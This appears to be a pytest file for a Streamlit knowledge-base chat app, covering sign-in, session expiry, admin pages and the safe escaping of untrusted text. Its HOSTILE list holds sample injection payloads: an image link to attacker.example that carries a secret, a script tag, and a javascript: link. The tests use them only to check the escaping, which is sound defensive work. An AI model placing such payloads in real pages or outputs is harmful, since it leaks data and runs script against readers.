"""The web app's sign-in and chat page through Streamlit's AppTest, over a real knowledge base
(sample_docs), and the safe rendering of untrusted text."""

from __future__ import annotations

import re

import pytest
from streamlit.testing.v1 import AppTest

from kbqa.webapp import PAGE_SCRIPT
from kbqa.webapp.render import WORD_JOINER, escape_markdown, highlight

PASSWORDS = {"wanda": "wanda-password-1", "webadmin": "webadmin-password-1"}


@pytest.fixture
def app(sample_kb, monkeypatch):
    kb, _ = sample_kb
    if kb.users.get("wanda") is None:
        kb.users.add("wanda", password=PASSWORDS["wanda"])
        kb.users.add("webadmin", admin=True, password=PASSWORDS["webadmin"])
    monkeypatch.setenv("KBQA_DATA_DIR", str(kb.data_dir))
    monkeypatch.delenv("KBQA_TRUSTED_USER_HEADER", raising=False)
    from kbqa.webapp import knowledge_base

    knowledge_base.clear()  # one KnowledgeBase per data dir, not one from an earlier test
    at = AppTest.from_file(str(PAGE_SCRIPT), default_timeout=300)
    at.run()
    return at


def _sign_in(at: AppTest, name: str, password: str | None = None) -> AppTest:
    at.text_input(key="sign_in_name").input(name)
    at.text_input(key="sign_in_password").input(password or PASSWORDS[name])
    at.button[0].click().run()
    return at


def _texts(at: AppTest) -> str:
    return "\n".join(m.value for m in at.markdown)


def test_nothing_is_shown_before_sign_in(app):
    assert not app.chat_input and not app.exception
    assert [t.label for t in app.text_input] == ["User name", "Password"]


def test_wrong_password_is_refused_and_recorded(app, sample_kb):
    _sign_in(app, "wanda", "wrong-password")
    assert [e.value for e in app.error] == ["Wrong user name or password."]
    assert not app.chat_input
    last = list(sample_kb[0].audit.records())[-1]
    assert (last.kind, last.actor, last.payload["action"]) == ("denial", "wanda", "sign_in")


def test_chat_answers_with_highlighted_sources_and_follow_ups(app, sample_kb):
    _sign_in(app, "wanda")
    assert app.chat_input and not [r for r in app.radio if "Admin" in r.options]
    app.chat_input[0].set_value("What is the per diem in Munich?").run()
    text = _texts(app)
    assert "Munich" in text and ":orange-background[" in text  # card snippet with highlights
    assert "\\[1\\]" in text and not app.exception
    app.chat_input[0].set_value("And in Berlin?").run()
    asks = [r for r in sample_kb[0].audit.records() if r.kind == "ask" and r.actor == "wanda"]
    assert "Berlin" in asks[-1].payload["rewritten_query"]
    assert "per diem" in asks[-1].payload["rewritten_query"].lower()
    app.button(key="new_conversation").click().run()
    assert "Munich" not in _texts(app)


def test_refusal_says_the_knowledge_base_does_not_cover_it(app):
    _sign_in(app, "wanda")
    app.chat_input[0].set_value("What is the capital of Peru?").run()
    assert [w.value for w in app.warning] == ["The knowledge base does not cover this question."]


def test_admins_get_the_admin_page(app):
    _sign_in(app, "webadmin")
    assert app.radio(key="page").options == ["Chat", "Admin"]
    app.radio(key="page").set_value("Admin").run()
    assert [t.label for t in app.tabs] == ["Upload", "Documents", "Users", "Audit", "Answers"]


def test_an_expired_or_removed_sign_in_asks_again(app, sample_kb):
    _sign_in(app, "wanda")
    app.session_state["auth_since"] = 0.0  # signed in long ago
    app.run()
    assert not app.chat_input and "expired" in app.info[0].value
    kb = sample_kb[0]
    kb.users.add("temp-user", password="temp-password-1")
    _sign_in(app, "temp-user", "temp-password-1")
    assert app.chat_input
    kb.users.remove("temp-user")
    app.run()
    assert not app.chat_input and "no longer active" in app.info[0].value


def test_trusted_header_mode_without_the_header_shows_nothing(app, monkeypatch):
    monkeypatch.setenv("KBQA_TRUSTED_USER_HEADER", "X-Forwarded-User")
    from kbqa.webapp import knowledge_base

    knowledge_base.clear()
    app.run()
    assert not app.chat_input and not app.text_input
    assert "company sign-in portal" in app.error[0].value


# -- rendering untrusted text -------------------------------------------------------------------
HOSTILE = [
    "![x](https://attacker.example/leak.png?q=secret)",
    '<img src="https://attacker.example/a.png"> <script>alert(1)</script>',
    "[click me](javascript:alert(1)) and https://attacker.example/auto",
    "# heading\n* list\n`code` **bold** :red[colour] $x^2$ :material/lock: :smile:",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_keeps_no_markdown_syntax(text):
    escaped = escape_markdown(text)
    unescaped = re.sub(r"\\.", "", escaped)  # what is left once every escaped character goes
    for syntax in ("![", "](", "<", ">", "`", "**", ":red[", "://", "$", "#", ":material",
                   ":smile:"):
        assert syntax not in unescaped, syntax
    shown = re.sub(r"\\(.)", r"\1", escaped).replace("  \n", "\n").replace(WORD_JOINER, "")
    assert shown == text  # displayed verbatim


def test_highlight_marks_word_prefixes_and_chinese_terms():
    marked = highlight("Passwords must be rotated. 密码每90天更换。", ["rotat", "密码"])
    assert ":orange-background[rotated]" in marked and ":orange-background[密码]" in marked
    assert "Passwords" in marked and ":orange-background[Passwords]" not in marked
    assert highlight("![x](http://a/b)", ["x"]).startswith("\\!\\[")


def test_the_chat_server_starts_when_the_database_is_down(monkeypatch, tmp_path, caplog):
    # The server's start-up hook loads the knowledge base; with the database unreachable it
    # logs why and lets the server start, and each page view tries again (and shows the error).
    import asyncio

    from kbqa.webapp import knowledge_base, lifespan

    monkeypatch.setenv("KBQA_DATA_DIR", str(tmp_path / "kb"))
    monkeypatch.setenv("KBQA_DATABASE_URL", "postgresql://kbqa@127.0.0.1:9/kbqa")
    knowledge_base.clear()

    async def start() -> bool:
        async with lifespan(None):
            return True

    assert asyncio.run(start())
    assert "could not be loaded at start" in caplog.text and "127.0.0.1:9" in caplog.text
    knowledge_base.clear()
